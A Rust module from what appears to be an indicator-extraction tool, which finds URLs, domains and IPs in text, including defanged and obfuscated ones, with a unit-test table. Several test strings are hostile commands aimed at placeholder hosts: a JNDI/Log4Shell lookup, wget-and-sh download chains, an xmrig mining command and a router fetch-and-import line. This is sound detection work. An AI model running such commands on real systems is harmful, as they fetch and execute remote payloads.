//! URLs: with a scheme, or without one where the host can be nothing else: an address with a path, a defanged name, the target of
//! `wget`. Values have scheme and host in lower case and the rest as written; each also yields its host.
use super::text::boundary;
use super::{Context, Extractor, Found, Needs, Text, domain, ipv4, ipv6};
use crate::events::Field;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::ops::Range;

/// Longest URL that is taken, bytes; of a longer one its beginning.
const URL_BYTES_MAX: usize = 2_048;
/// Longest `user:password@host:port`, bytes.
const AUTHORITY_BYTES_MAX: usize = 320;
/// Most URLs looked at inside another one.
const NESTED_MAX: usize = 4;
/// Longest `${variable}` or `{a,b}` inside a URL, bytes.
const BRACES_BYTES_MAX: usize = 64;
const SCHEME_BYTES_MAX: usize = 12;

const SCHEMES: &[&str] = &[
    "http",
    "https",
    "ftp",
    "ftps",
    "tftp",
    "sftp",
    "scp",
    "ssh",
    "tcp",
    "udp",
    "ldap",
    "ldaps",
    "rmi",
    "dns",
    "ws",
    "wss",
    "stratum+tcp",
    "stratum+ssl",
    "stratum+tls",
    "socks4",
    "socks5",
    "telnet",
    "smb",
    "git",
    "rsync",
    "gopher",
    "iiop",
];

pub(super) struct Urls;

impl Extractor for Urls {
    fn fields(&self) -> &'static [Field] {
        &[Field::Url, Field::Domain, Field::Ipv4, Field::Ipv6]
    }

    fn needs(&self) -> &'static Needs {
        const NEEDS: Needs = Needs::NOTHING.one_of(b"/").one_of(b".:");
        &NEEDS
    }

    fn extract(&self, text: &Text<'_>, found: &mut Found) {
        with_scheme(text, found);
        without_scheme(text, found);
    }
}

/// The host of a URL.
enum Host {
    Name,
    V4(Ipv4Addr),
    V6(Ipv6Addr),
}

struct Authority {
    host: Range<usize>,
    kind: Host,
    /// Behind host and port.
    end: usize,
    /// Whether a path, a query or a fragment may follow.
    is_whole: bool,
}

fn with_scheme(text: &Text<'_>, found: &mut Found) {
    let bytes = text.plain.as_bytes();
    let (mut outer_end, mut nested) = (0, 0);
    for colon in memchr::memmem::find_iter(bytes, b"://") {
        if colon < outer_end {
            nested += 1;
            if nested > NESTED_MAX {
                continue;
            }
        }
        let Some((start, scheme)) = scheme_before(bytes, colon) else {
            continue;
        };
        let Some(authority) = authority(text, colon + 3, true) else {
            continue;
        };
        let end = end_of_url(text, start, &authority);
        if colon >= outer_end {
            (outer_end, nested) = (end, 0);
        }
        let mut value = String::with_capacity(end - start);
        value.push_str(scheme);
        value.push_str(&text.plain[colon..authority.host.start]);
        value.push_str(&text.plain[authority.host.clone()].to_lowercase());
        value.push_str(&text.plain[authority.host.end..end]);
        found.add(Field::Url, &value, text, start..end);
        add_host(text, &authority, found);
        if found.is_full() {
            return;
        }
    }
}

/// The known scheme that ends at `colon`.
fn scheme_before(bytes: &[u8], colon: usize) -> Option<(usize, &'static str)> {
    let mut start = colon;
    while start > 0
        && colon - start < SCHEME_BYTES_MAX
        && (bytes[start - 1].is_ascii_alphanumeric() || matches!(bytes[start - 1], b'+' | b'-'))
    {
        start -= 1;
    }
    let word = &bytes[start..colon];
    let exact = SCHEMES.iter().find(|scheme| word.eq_ignore_ascii_case(scheme.as_bytes()));
    if let Some(scheme) = exact {
        return Some((start, scheme));
    }
    // Glued to something else (`xhttp://`, `url-http://`): the web's own schemes are plain enough.
    ["https", "http", "ftp"].into_iter().find_map(|scheme| {
        let start = colon.checked_sub(scheme.len())?;
        bytes[start..colon].eq_ignore_ascii_case(scheme.as_bytes()).then_some((start, scheme))
    })
}

/// What ends a URL wherever it stands.
fn is_terminator(char: char) -> bool {
    match char {
        '\0'..=' ' | '"' | '\'' | '<' | '>' | '\\' | '^' | '`' | '{' | '}' | '|' | '\x7f' => true,
        '!'..='~' => false,
        '\u{80}'..='\u{bf}'
        | '\u{2000}'..='\u{206f}'
        | '\u{3000}'..='\u{303f}'
        | '\u{ff00}'..='\u{ff0f}'
        | '；'
        | '？'
        | '\u{fff0}'..='\u{ffff}' => true,
        _ => false,
    }
}

/// Reads `user:password@host:port` at `start`.
fn authority(text: &Text<'_>, start: usize, has_scheme: bool) -> Option<Authority> {
    let window = &text.plain[start..boundary(text.plain, start + AUTHORITY_BYTES_MAX)];
    let length = window.find(|char| is_terminator(char) || matches!(char, '/' | '?' | '#')).unwrap_or(window.len());
    let window = &window[..length];
    let is_user = |byte: u8| byte.is_ascii_alphanumeric() || b"._~!$&*+=:%-@".contains(&byte);
    let user = memchr::memrchr(b'@', window.as_bytes()).filter(|&at| has_scheme && at > 0 && window.bytes().take(at).all(is_user));
    let host_start = start + user.map_or(0, |at| at + 1);
    let rest = &text.plain[host_start..start + length];
    let bytes = rest.as_bytes();
    if bytes.first() == Some(&b'[') {
        let close = memchr::memchr(b']', bytes)?;
        let inside = &bytes[1..close];
        let address = ipv6::parse(&inside[..memchr::memchr(b'%', inside).unwrap_or(inside.len())])?;
        return Some(with_port(text, host_start..host_start + close + 1, Host::V6(address), start + length));
    }
    // An IPv6 address without its brackets.
    let run = bytes.iter().position(|&byte| !(byte.is_ascii_hexdigit() || matches!(byte, b':' | b'.'))).unwrap_or(bytes.len());
    if memchr::memchr_iter(b':', &bytes[..run]).nth(1).is_some()
        && let Some(address) = ipv6::parse(&bytes[..run])
    {
        let end = ipv6::with_zone(bytes, run);
        return Some(Authority {
            host: host_start..host_start + end,
            kind: Host::V6(address),
            end: host_start + end,
            is_whole: end == bytes.len(),
        });
    }
    let mut host_length = rest.find(|char| !domain::is_name_char(char)).unwrap_or(rest.len());
    // A dot at the end belongs to the name only if more of the URL follows.
    let behind = &text.plain.as_bytes()[host_start + host_length..];
    let goes_on = match behind.first() {
        Some(b'/' | b'?' | b'#') => true,
        Some(b':') => behind.get(1).is_some_and(u8::is_ascii_digit),
        _ => false,
    };
    while !goes_on && host_length > 0 && bytes[host_length - 1] == b'.' {
        host_length -= 1;
    }
    let host = &rest[..host_length];
    let kind = kind_of(host, has_scheme)?;
    Some(with_port(text, host_start..host_start + host_length, kind, start + length))
}

fn with_port(text: &Text<'_>, host: Range<usize>, kind: Host, authority_end: usize) -> Authority {
    let bytes = text.plain.as_bytes();
    let mut end = host.end;
    if bytes.get(end) == Some(&b':') {
        let digits = bytes[end + 1..bytes.len().min(end + 7)].iter().take_while(|byte| byte.is_ascii_digit()).count();
        let port = text.plain[end + 1..end + 1 + digits].parse::<u16>();
        if port.is_ok() {
            end += 1 + digits;
        }
    }
    Authority { host, kind, end, is_whole: end == authority_end }
}

/// What a host is; nothing when it cannot be one.
fn kind_of(host: &str, has_scheme: bool) -> Option<Host> {
    let bytes = host.as_bytes();
    if let Some(address) = ipv4::strict(bytes) {
        return Some(Host::V4(address));
    }
    let bare = host.strip_suffix('.').unwrap_or(host);
    let last = bare.rsplit('.').next()?;
    if last.is_empty() || bare.len() > 253 * 4 {
        return None;
    }
    let is_number = last.bytes().all(|byte| byte.is_ascii_digit()) || last.get(..2).is_some_and(|start| start.eq_ignore_ascii_case("0x"));
    if is_number {
        return if has_scheme { obfuscated(bare).map(Host::V4) } else { None };
    }
    let is_label = |label: &str| !label.is_empty() && label.chars().count() <= 63 && !label.starts_with('-') && !label.ends_with('-');
    let has_letter = last.chars().any(char::is_alphabetic);
    (has_letter && !last.starts_with('_') && bare.split('.').all(is_label)).then_some(Host::Name)
}

/// Addresses as `inet_aton` reads them: hexadecimal, octal, or one large number.
fn obfuscated(host: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = host.split('.').collect();
    let number = |part: &str| match part {
        _ if part.len() > 12 || part.is_empty() => None,
        _ if part.len() > 2 && part.get(..2).is_some_and(|start| start.eq_ignore_ascii_case("0x")) => {
            u32::from_str_radix(&part[2..], 16).ok()
        }
        _ if part.len() > 1 && part.starts_with('0') => u32::from_str_radix(part, 8).ok(),
        _ => part.parse().ok(),
    };
    match parts.as_slice() {
        [one] => number(one).filter(|&value| value >= 1 << 24).map(Ipv4Addr::from),
        [a, b, c, d] => {
            let octet = |part: &str| u8::try_from(number(part)?).ok();
            Some(Ipv4Addr::new(octet(a)?, octet(b)?, octet(c)?, octet(d)?))
        }
        _ => None,
    }
}

/// Where a URL ends: terminators, brackets that were opened outside, and the punctuation of the sentence are no part of it.
fn end_of_url(text: &Text<'_>, start: usize, authority: &Authority) -> usize {
    let plain = text.plain;
    let bytes = plain.as_bytes();
    if !authority.is_whole || !matches!(bytes.get(authority.end), Some(b'/' | b'?' | b'#')) {
        return authority.end;
    }
    let quote = start.checked_sub(1).map(|at| bytes[at]).filter(|byte| matches!(byte, b'"' | b'\'' | b'`'));
    let bare_command = text.context == Context::Command && quote.is_none();
    let limit = boundary(plain, start + URL_BYTES_MAX);
    let (mut round, mut square) = (0_u32, 0_u32);
    let mut query = false;
    let mut before = '/';
    let mut end = authority.end;
    while end < limit {
        let Some(char) = plain[end..].chars().next() else {
            break;
        };
        match char {
            // `'` in a path, in a text that is quoted otherwise, belongs to neither.
            '{' => match braces(bytes, end, text.context) {
                Some(behind) => {
                    end = behind;
                    before = '}';
                    continue;
                }
                None => break,
            },
            _ if is_terminator(char) => break,
            '(' if bare_command => break,
            '(' => round += 1,
            ')' if round == 0 => break,
            ')' => round -= 1,
            '[' => square += 1,
            ']' if square == 0 => break,
            ']' => square -= 1,
            ';' if bare_command => break,
            '?' => query = true,
            '&' if is_entity(&bytes[end..]) => break,
            '&' if bare_command && (!query || !bytes.get(end + 1).is_some_and(u8::is_ascii_alphanumeric)) => break,
            // Words of a script without blanks, glued to a path in ASCII.
            _ if char >= '\u{2e80}' && before.is_ascii_alphanumeric() => break,
            _ => {}
        }
        before = char;
        end += char.len_utf8();
    }
    // An unclosed bracket was opened by something that is not the URL's.
    let mut trimmed = &plain[authority.end..end];
    loop {
        let shorter = trimmed.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '$']);
        let shorter = if round > 0 && shorter.ends_with('(') { &shorter[..shorter.len() - 1] } else { shorter };
        let shorter = if square > 0 && shorter.ends_with('[') { &shorter[..shorter.len() - 1] } else { shorter };
        if shorter.len() == trimmed.len() {
            break;
        }
        trimmed = shorter;
    }
    authority.end + trimmed.len()
}

/// Where `${x}` (anywhere) or `{a,b}` (in a command) ends.
fn braces(bytes: &[u8], at: usize, context: Context) -> Option<usize> {
    if bytes[at - 1] != b'$' && context != Context::Command {
        return None;
    }
    let window = &bytes[at + 1..bytes.len().min(at + 1 + BRACES_BYTES_MAX)];
    let length = window.iter().position(|&byte| !(byte.is_ascii_alphanumeric() || matches!(byte, b',' | b'_' | b'.' | b'-')))?;
    (window[length] == b'}' && length > 0).then_some(at + length + 2)
}

/// `&quot;` and the like end a URL in markup.
fn is_entity(bytes: &[u8]) -> bool {
    [b"&quot;".as_slice(), b"&lt;", b"&gt;", b"&apos;", b"&#34;", b"&#39;", b"&#x27;", b"&nbsp;"]
        .iter()
        .any(|entity| bytes.starts_with(entity))
}

fn add_host(text: &Text<'_>, authority: &Authority, found: &mut Found) {
    let host = authority.host.clone();
    match authority.kind {
        Host::V4(address) => found.add(Field::Ipv4, &address.to_string(), text, host),
        Host::V6(address) => {
            let inside = if text.plain.as_bytes()[host.start] == b'[' { host.start + 1..host.end - 1 } else { host };
            found.add(Field::Ipv6, &address.to_string(), text, inside);
        }
        Host::Name => {
            if let Some(name) = domain::name(&text.plain[host.clone()]) {
                found.add(Field::Domain, &name, text, host);
            }
        }
    }
}

/// `192.0.2.1:80/path`, `example[.]com/`, `wget example.com/x`.
fn without_scheme(text: &Text<'_>, found: &mut Found) {
    let mut note = |start: usize| {
        if let Some(authority) = authority(text, start, false)
            && authority.is_whole
            && text.plain.as_bytes().get(authority.end) == Some(&b'/')
        {
            let is_host = match authority.kind {
                Host::Name => domain::name(&text.plain[authority.host.clone()]).is_some(),
                _ => true,
            };
            if is_host {
                let end = end_of_url(text, start, &authority);
                let mut value = text.plain[authority.host.clone()].to_lowercase();
                value.push_str(&text.plain[authority.host.end..end]);
                found.add(Field::Url, &value, text, start..end);
                add_host(text, &authority, found);
            }
        }
        !found.is_full()
    };
    // Authorities with a scheme, and users before a host, are somebody else's.
    let is_free = |start: usize| start == 0 || !matches!(text.plain.as_bytes()[start - 1], b'/' | b'@' | b'\\');
    if !text.fetched.iter().all(|&start| !is_free(start as usize) || note(start as usize)) {
        return;
    }
    for candidate in ipv4::Candidates::of(text) {
        if !candidate.is_device && is_free(candidate.range.start) && !note(candidate.range.start) {
            return;
        }
    }
    // People write `t.me/name` in chats.
    let is_address = matches!(text.context, Context::Address | Context::Chat);
    if is_address || !text.defanged.is_empty() {
        domain::each(text, |range, _| !(is_address || text.is_defanged(&range)) || !is_free(range.start) || note(range.start));
    }
}

#[cfg(test)]
mod tests {
    use super::super::Context::*;
    use super::super::tests::check;
    use super::*;

    #[test]
    fn urls_are_found_whole_and_nothing_around_them() {
        check(
            Field::Url,
            &[
                // schemes
                (Other, "http://example.com", &["http://example.com"]),
                (Other, "HTTPS://Example.COM/Path?Q=1#F", &["https://example.com/Path?Q=1#F"]),
                (Other, "ftp://anonymous:anonymous@192.0.2.1/.sh", &["ftp://anonymous:anonymous@192.0.2.1/.sh"]),
                (Other, "tftp://192.0.2.1:69/shr", &["tftp://192.0.2.1:69/shr"]),
                (Other, "${jndi:ldap://evil.com:1389/a}", &["ldap://evil.com:1389/a"]),
                (Other, "jndi:rmi://192.0.2.1:1099/x", &["rmi://192.0.2.1:1099/x"]),
                (Other, "dns://evil.com/x ws://evil.com/y wss://evil.com/z", &["dns://evil.com/x", "ws://evil.com/y", "wss://evil.com/z"]),
                (Command, "xmrig -o stratum+tcp://pool.evil.com:3333 -u x", &["stratum+tcp://pool.evil.com:3333"]),
                (Other, "tcp://192.0.2.1:80 udp://192.0.2.1:53", &["tcp://192.0.2.1:80", "udp://192.0.2.1:53"]),
                (Other, "ssh://git@example.com:22/a.git", &["ssh://git@example.com:22/a.git"]),
                (Other, "file:///etc/passwd", &[]),
                (Other, "foo://example.com/", &[]),
                (Other, "://example.com/", &[]),
                (Other, "//example.com/x", &[]),
                (Other, "xhttp://example.com/", &["http://example.com/"]),
                (Other, "url=http://example.com/&x", &["http://example.com/&x"]),
                // hosts
                (Other, "http://example.com.", &["http://example.com"]),
                (Other, "http://example.com./x", &["http://example.com./x"]),
                (Other, "http://localhost:8080/x", &["http://localhost:8080/x"]),
                (Other, "http://my_host.example.com/", &["http://my_host.example.com/"]),
                (Other, "http://xn--bcher-kva.de/", &["http://xn--bcher-kva.de/"]),
                (Other, "http://Bücher.de/Ü", &["http://bücher.de/Ü"]),
                (Other, "http://例え.jp/道", &["http://例え.jp/道"]),
                (Other, "http://[2001:db8::1]:80/x", &["http://[2001:db8::1]:80/x"]),
                (Other, "http://[fe80::1%25eth0]/x", &["http://[fe80::1%25eth0]/x"]),
                (Other, "http://2001:DB8:0:0:0:0:0:1/x", &["http://2001:db8:0:0:0:0:0:1/x"]),
                (
                    Other,
                    "http://0x7f000001/ http://2130706433/ http://0177.0.0.1/",
                    &["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/"],
                ),
                (Other, "http://1.2.3.4.5/ http://999.1.1.1/ http://1.2/ http://7/", &[]),
                (Other, "http:// http:/// http://. http://-/ http://.com/", &[]),
                (Other, "http://$IP/x http://${HOST}/y http://%s/z http://<ip>/w", &[]),
                // ports and users
                (Other, "http://example.com:8080", &["http://example.com:8080"]),
                (Other, "http://example.com:", &["http://example.com"]),
                (Other, "http://example.com:99999/x", &["http://example.com"]),
                (Other, "http://example.com:http/x", &["http://example.com"]),
                (Other, "http://user:p%40ss@Example.com:80/x", &["http://user:p%40ss@example.com:80/x"]),
                (Other, "http://google.com@evil.com/x", &["http://google.com@evil.com/x"]),
                // the edges
                (Other, "see http://example.com/a.", &["http://example.com/a"]),
                (
                    Other,
                    "http://example.com/a, http://example.com/b; http://example.com/c!",
                    &["http://example.com/a", "http://example.com/b", "http://example.com/c"],
                ),
                (Other, "(http://example.com/a)", &["http://example.com/a"]),
                (Other, "http://example.com/a_(b)", &["http://example.com/a_(b)"]),
                (Other, "(see http://example.com/a_(b))", &["http://example.com/a_(b)"]),
                (Other, "[x](http://example.com/a)", &["http://example.com/a"]),
                (Other, "<http://example.com/a>", &["http://example.com/a"]),
                (Other, "<a href='http://example.com/a'>x</a>", &["http://example.com/a"]),
                (Other, "&lt;http://example.com/a&gt;", &["http://example.com/a"]),
                (Other, "href=&quot;http://example.com/?a=1&amp;b=2&quot;", &["http://example.com/?a=1&amp;b=2"]),
                (Other, "{\"u\":\"http://example.com/a\",\"v\":1}", &["http://example.com/a"]),
                (Other, "{\"u\":\"http:\\/\\/example.com\\/a\"}", &["http://example.com/a"]),
                (Other, "{u:http://example.com/a}", &["http://example.com/a"]),
                (Other, "http://example.com/a\\r\\nHost: x", &["http://example.com/a"]),
                (Other, "**http://example.com/a**", &["http://example.com/a"]),
                (Chat, "请打开http://example.com/a，谢谢", &["http://example.com/a"]),
                (Chat, "打开http://example.com/a谢谢", &["http://example.com/a"]),
                (Chat, "\u{201c}http://example.com/a\u{201d}\u{2026}", &["http://example.com/a"]),
                (Chat, "http://exam\u{200b}ple.com/a", &["http://example.com/a"]),
                (Chat, "ｈｔｔｐ：／／ｅｘａｍｐｌｅ．ｃｏｍ／ａ", &["http://example.com/a"]),
                (Chat, "http://example\u{3002}com/a", &["http://example.com/a"]),
                (Chat, "http://\u{202e}example.com/a", &["http://example.com/a"]),
                (Chat, "http://amaz0n-deals.fake-site.com/claim?id=12345. Offer", &["http://amaz0n-deals.fake-site.com/claim?id=12345"]),
                // defanged
                (Other, "hxxp://example[.]com/a", &["http://example.com/a"]),
                (Other, "hXXps[:]//example(dot)com[/]a", &["https://example.com/a"]),
                (Other, "h**p://example{.}com/a h__p://example.com/b", &["http://example.com/a", "http://example.com/b"]),
                (Other, "fxp://example.com/a", &["ftp://example.com/a"]),
                (Other, "hxxp[://]example[.com/a", &["http://example.com/a"]),
                (Other, "http://example.]com/a", &["http://example.com/a"]),
                (Other, "http://example,com/a http://[example.com]/b", &["http://example.com/a", "http://example.com/b"]),
                (Other, "http://a.com,http://b.com", &["http://a.com", "http://b.com"]),
                (Other, "example[.]com/a example.com/b", &["example.com/a"]),
                (Other, "192[.]0[.]2[.]1:9090/url", &["192.0.2.1:9090/url"]),
                (Other, "hxxp is a scheme (dot) (at) [.] [://]", &[]),
                // without a scheme
                (Other, "192.0.2.1/a 192.0.2.1:80/b", &["192.0.2.1/a", "192.0.2.1:80/b"]),
                (Other, "192.0.2.1:80 100.20.30.0/24 192.0.2.1/32.", &[]),
                (Command, "nmap 192.0.2.1/24&", &[]),
                (Other, "./run.sh/x 21/11/2026 1.2.3/x Chrome/1.2.3.4/x", &[]),
                (Command, "wget 192.0.2.1/x.sh", &["192.0.2.1/x.sh"]),
                (Command, "wget -q Evil.sh/X -O x.sh", &["evil.sh/X"]),
                (Command, "curl -O ftp.example.com/a", &["ftp.example.com/a"]),
                (Command, "ftpget 192.0.2.1 a b; tftp -g -r x 192.0.2.1", &[]),
                (Command, "cat /dev/tcp/192.0.2.1/443 ls example.com/x", &[]),
                (Address, "example.com/x", &["example.com/x"]),
                // commands
                (Command, "wget http://192.0.2.1/a;sh a", &["http://192.0.2.1/a"]),
                (Command, "(wget http://192.0.2.1/a||curl http://192.0.2.1/b)&", &["http://192.0.2.1/a", "http://192.0.2.1/b"]),
                (Command, "wget http://192.0.2.1/a&&sh a", &["http://192.0.2.1/a"]),
                (Command, "curl http://192.0.2.1/?a=1&b=2 &", &["http://192.0.2.1/?a=1&b=2"]),
                (Command, "curl \"http://192.0.2.1/a;b?c=1&d=2\"", &["http://192.0.2.1/a;b?c=1&d=2"]),
                (Command, "sh -c `curl http://192.0.2.1/a`", &["http://192.0.2.1/a"]),
                (
                    Command,
                    "wget http://192.0.2.1/bins/${arch} http://192.0.2.1/{a,b}",
                    &["http://192.0.2.1/bins/${arch}", "http://192.0.2.1/{a,b}"],
                ),
                (Command, "wget${IFS}http://192.0.2.1/a${IFS}-O$IFS-", &["http://192.0.2.1/a"]),
                (Command, "wget ht''tp://192.0.2.1/a", &["http://192.0.2.1/a"]),
                (Command, "wget http://192.0.2.1/\\\nabc", &["http://192.0.2.1/abc"]),
                (Command, "python -c \"u=u'http://192.0.2.1/a'\"", &["http://192.0.2.1/a"]),
                (Command, "/tool fetch url=http://evil.xyz/a mode=http dst-path=b.rsc\\r\\n/import b.rsc", &["http://evil.xyz/a"]),
                // one in another
                (Other, "http://a.com/?u=http://b.com/x", &["http://a.com/?u=http://b.com/x", "http://b.com/x"]),
                (Other, "http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=1", &["http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=1", "http://b.com/x"]),
                (Other, "%68%74%74%70%3a%2f%2fb.com/x", &["http://b.com/x"]),
                (Hash, "http://example.com/", &["http://example.com/"]),
            ],
        );
    }
}
